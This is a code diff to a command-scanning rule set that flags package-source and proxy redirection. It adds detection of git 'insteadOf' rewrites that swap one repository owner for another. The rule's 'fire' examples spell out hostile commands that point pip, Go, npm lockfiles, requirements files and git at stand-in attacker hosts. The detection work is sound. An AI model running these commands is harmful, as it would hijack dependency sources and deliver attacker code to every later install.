@@ -161,6 +161,7 @@ function redirectedSources(i: AnalysisInput, level: 'hostile' | 'unknown'): stri
   const counts = (name: string) => level === 'hostile' || !(AI_ENDPOINT_VARS.test(name) || name.startsWith('helm '));
   for (const c of i.view?.commands ?? []) for (const [k, v] of sourceSettings(c)) if (sourceTrust(v) === level && counts(k)) out.push(`${k} ${v}`);
   for (const x of i.view?.assignments ?? []) if (routesTraffic(x.name) && sourceTrust(x.value) === level && counts(x.name)) out.push(`${x.name}=${x.value}`);
+  if (level === 'unknown') for (const c of i.view?.commands ?? []) { const swap = ownerSwap(c); if (swap) out.push(swap); }
   // index, registry and replacement URLs written into pip, yarn, cargo, git or system package
   // sources, and the URLs dependency manifests and lockfiles fetch from (`"resolved": "https://…"`)
   // (system package repositories, like chart repositories, live on vendors' domains: only a hostile host counts)
@@ -173,6 +174,23 @@ function redirectedSources(i: AnalysisInput, level: 'hostile' | 'unknown'): stri
     }
   }
   return out;
+}
+
+/**
+ * `git config url."https://github.com/someone-else/".insteadOf "https://github.com/acme/"`: every fetch of one
+ * owner's repositories answered by another owner's on the same host (a change of protocol or a company
+ * mirror on its own host keeps the owner or the host apart).
+ */
+function ownerSwap(c: SimpleCommand): string | undefined {
+  if (c.name !== 'git' || !c.argv.includes('config')) return undefined;
+  const key = c.argv.find((w) => /^url\..+\.insteadof$/i.test(w));
+  if (key === undefined) return undefined;
+  const to = key.slice(4, key.length - '.insteadof'.length);
+  const from = c.argv[c.argv.indexOf(key) + 1] ?? '';
+  const owner = (u: string) => /^https?:\/\/([^/]+)\/([^/]+)/i.exec(u) ?? /^[^@\s]+@([^:]+):([^/]+)/.exec(u);
+  const a = owner(to);
+  const b = owner(from);
+  return a && b && a[1]!.toLowerCase() === b[1]!.toLowerCase() && a[2]!.toLowerCase() !== b[2]!.toLowerCase() ? `${from} → ${to}` : undefined;
 }
 
 /**
@@ -792,7 +810,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-C2-022', name: 'changes-package-source-or-proxy', score: 55, tactic: 'command_and_control', technique: 'T1195.001',
     message: 'Points a package index, git source or proxy at an unfamiliar host', why: 'A new index or proxy decides what code every later install runs; check that the host is yours.',
     check: (i) => redirectedSources(i, 'unknown'),
-    examples: { fire: ["printf '[pypi]\\nrepository = https://upload.pkgs-cdn.org/legacy/\\nusername = __token__\\n' > ~/.pypirc", `sed -i 's|"resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"|"resolved": "https://pkgs.evil-mirror.dev/lodash-4.17.21.tgz"|' package-lock.json`, "sed -i 's|^requests==.*|requests @ https://pkgs.evil-mirror.dev/requests-2.31.0.tar.gz|' requirements.txt", 'pip config set global.index-url https://mirror.evil-pkgs.net/simple', 'git config --global url."https://git-mirror.attacker.dev/".insteadOf https://github.com/', 'go env -w GOPROXY=https://goproxy.attacker.dev,direct'], quiet: ["printf '[testpypi]\\nrepository = https://test.pypi.org/legacy/\\n' >> ~/.pypirc", 'echo "deb https://apt.releases.hashicorp.com jammy main" | sudo tee /etc/apt/sources.list.d/hashicorp.list', 'helm repo add bitnami https://charts.bitnami.com/bitnami', `sed -i 's|"version": "1.0.0"|"version": "1.0.1"|' package.json`, "echo 'requests==2.32.3' >> requirements.txt", 'go env -w GOPROXY=https://proxy.golang.org,direct', 'git config --global pull.rebase true', 'pip install -r requirements.txt', 'export ANTHROPIC_BASE_URL=https://openrouter.ai/api/v1', 'export OPENAI_BASE_URL=https://myco.openai.azure.com/'] },
+    examples: { fire: ['git config --global url."https://github.com/attacker-acct/".insteadOf "https://github.com/acme/"', "printf '[pypi]\\nrepository = https://upload.pkgs-cdn.org/legacy/\\nusername = __token__\\n' > ~/.pypirc", `sed -i 's|"resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"|"resolved": "https://pkgs.evil-mirror.dev/lodash-4.17.21.tgz"|' package-lock.json`, "sed -i 's|^requests==.*|requests @ https://pkgs.evil-mirror.dev/requests-2.31.0.tar.gz|' requirements.txt", 'pip config set global.index-url https://mirror.evil-pkgs.net/simple', 'git config --global url."https://git-mirror.attacker.dev/".insteadOf https://github.com/', 'go env -w GOPROXY=https://goproxy.attacker.dev,direct'], quiet: ['git config --global url."git@github.com:".insteadOf "https://github.com/"', 'git config --global url."https://artifactory.acme.internal/github/".insteadOf "https://github.com/"', "printf '[testpypi]\\nrepository = https://test.pypi.org/legacy/\\n' >> ~/.pypirc", 'echo "deb https://apt.releases.hashicorp.com jammy main" | sudo tee /etc/apt/sources.list.d/hashicorp.list', 'helm repo add bitnami https://charts.bitnami.com/bitnami', `sed -i 's|"version": "1.0.0"|"version": "1.0.1"|' package.json`, "echo 'requests==2.32.3' >> requirements.txt", 'go env -w GOPROXY=https://proxy.golang.org,direct', 'git config --global pull.rebase true', 'pip install -r requirements.txt', 'export ANTHROPIC_BASE_URL=https://openrouter.ai/api/v1', 'export OPENAI_BASE_URL=https://myco.openai.azure.com/'] },
   },
   {
     id: 'PX-C2-023', name: 'enables-unattended-remote-access', score: 85, tactic: 'command_and_control', technique: 'T1219',
